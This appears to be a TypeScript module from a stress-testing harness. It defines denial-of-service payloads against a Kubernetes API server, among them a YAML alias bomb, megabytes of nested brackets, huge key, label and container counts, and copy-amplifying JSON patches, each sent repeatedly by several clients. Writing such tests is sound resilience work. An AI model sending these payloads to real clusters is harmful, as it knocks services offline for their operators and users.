import type { Attack } from './attack.ts';

const json = 'application/json';
const yaml = 'application/yaml';
const strategic = 'application/strategic-merge-patch+json';
const apply = 'application/apply-patch+yaml';
const review = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const configMaps = '/api/v1/namespaces/default/configmaps';
const pods = '/api/v1/namespaces/default/pods';

const range = <T>(count: number, make: (at: number) => T): T[] => Array.from({ length: count }, (_, at) => make(at));
const membersOf = (count: number, value: unknown) => Object.fromEntries(range(count, (at) => [`k${at}`, value]));
const containers = (count: number) => range(count, (at) => ({ name: `c${at}`, image: 'i' }));
const configMap = (content: object) => JSON.stringify({ metadata: { generateName: 'big-' }, ...content });
const pod = (name: string, spec: object) => ({
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name, namespace: 'default' },
  spec,
});

/** The same body again and again, by so many clients at once. */
function sends(
  name: string,
  who: 'nobody' | 'admin',
  method: string,
  path: string,
  type: string,
  body: () => string,
  clients = 4,
): Attack {
  return {
    name,
    async attack(target) {
      const bytes = body();
      await target.repeat(who, clients, { method, path, headers: { 'content-type': type }, body: bytes });
    },
  };
}

const aliases = (levels: number) =>
  [
    'a0: &a0 [x,x,x,x,x,x,x,x,x]',
    ...range(levels, (at) => `a${at + 1}: &a${at + 1} [${'*a'.concat(`${at},`).repeat(9).slice(0, -1)}]`),
  ].join('\n');

/** Bodies that cost more than their length. */
export const bodies: readonly Attack[] = [
  sends(
    'YAML of 200,000 keys',
    'nobody',
    'POST',
    review,
    yaml,
    () => `data:\n${range(200_000, (at) => ` k${at}: v`).join('\n')}`,
  ),
  sends('YAML of 780,000 documents', 'nobody', 'POST', review, yaml, () => '---\n'.repeat(780_000)),
  sends('YAML of 3 MB of brackets', 'nobody', 'POST', review, yaml, () => '['.repeat(3_000_000)),
  sends('YAML whose aliases multiply', 'admin', 'PATCH', `${configMaps}/bomb?fieldManager=a`, apply, () => aliases(9)),
  sends('JSON of 3 MB of brackets', 'nobody', 'POST', review, json, () => '['.repeat(3_000_000)),
  sends('managed fields 5,000 deep', 'admin', 'POST', configMaps, json, () =>
    configMap({}).replace(
      '"generateName"',
      `"managedFields":[{"manager":"m","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1","fieldsV1":${'{"f:a":'.repeat(5000)}{}${'}'.repeat(5000)}}],"generateName"`,
    ),
  ),
  sends('JSON of 150,000 unknown members', 'nobody', 'POST', review, json, () => JSON.stringify(membersOf(150_000, 1))),
  sends('pods of 40,000 containers', 'admin', 'POST', `${pods}?dryRun=All`, json, () =>
    JSON.stringify(pod('big', { containers: containers(40_000) })),
  ),
  {
    name: 'strategic patches of 40,000 containers',
    async prepare(target) {
      const body = JSON.stringify(pod('small', { containers: containers(1) }));
      await target.ask(target.client('admin'), { method: 'POST', path: pods, headers: { 'content-type': json }, body });
    },
    async attack(target) {
      const body = JSON.stringify({ spec: { containers: containers(40_000) } });
      const headers = { 'content-type': strategic };
      await target.repeat('admin', 4, { method: 'PATCH', path: `${pods}/small?dryRun=All`, headers, body });
    },
  },
  sends('ConfigMaps of 250,000 keys', 'admin', 'POST', configMaps, json, () =>
    configMap({ data: membersOf(150_000, '') }),
  ),
  sends('objects of 150,000 labels', 'admin', 'POST', configMaps, json, () =>
    JSON.stringify({ metadata: { generateName: 'big-', labels: membersOf(150_000, 'v') } }),
  ),
  sends('objects of 100,000 finalizers', 'admin', 'POST', configMaps, json, () =>
    JSON.stringify({ metadata: { generateName: 'big-', finalizers: range(100_000, (at) => `a.b/f${at}`) } }),
  ),
  sends('containers of 60,000 variables', 'admin', 'POST', `${pods}?dryRun=All`, json, () =>
    JSON.stringify(
      pod('env', {
        containers: [{ name: 'c', image: 'i', env: range(60_000, (at) => ({ name: `E${at}`, value: 'v' })) }],
      }),
    ),
  ),
  sends('quantities of 3,000,000 digits', 'admin', 'POST', `${pods}?dryRun=All`, json, () =>
    JSON.stringify(
      pod('digits', {
        containers: [{ name: 'c', image: 'i', resources: { requests: { cpu: '9'.repeat(2_900_000) } } }],
      }),
    ),
  ),
  {
    name: 'JSON patches that copy and copy',
    async prepare(target) {
      const body = JSON.stringify({ metadata: { name: 'copied' }, data: { a: 'x'.repeat(1000) } });
      const headers = { 'content-type': json };
      await target.ask(target.client('admin'), { method: 'POST', path: configMaps, headers, body });
    },
    async attack(target) {
      const body = JSON.stringify(range(9000, (at) => ({ op: 'copy', from: '/data', path: `/data/c${at}` })));
      const headers = { 'content-type': 'application/json-patch+json' };
      await target.repeat('admin', 4, { method: 'PATCH', path: `${configMaps}/copied`, headers, body });
    },
  },
  sends('ConfigMaps of 900 kB, created and created', 'admin', 'POST', configMaps, json, () =>
    configMap({ data: { a: 'x'.repeat(900_000) } }),
  ),
];
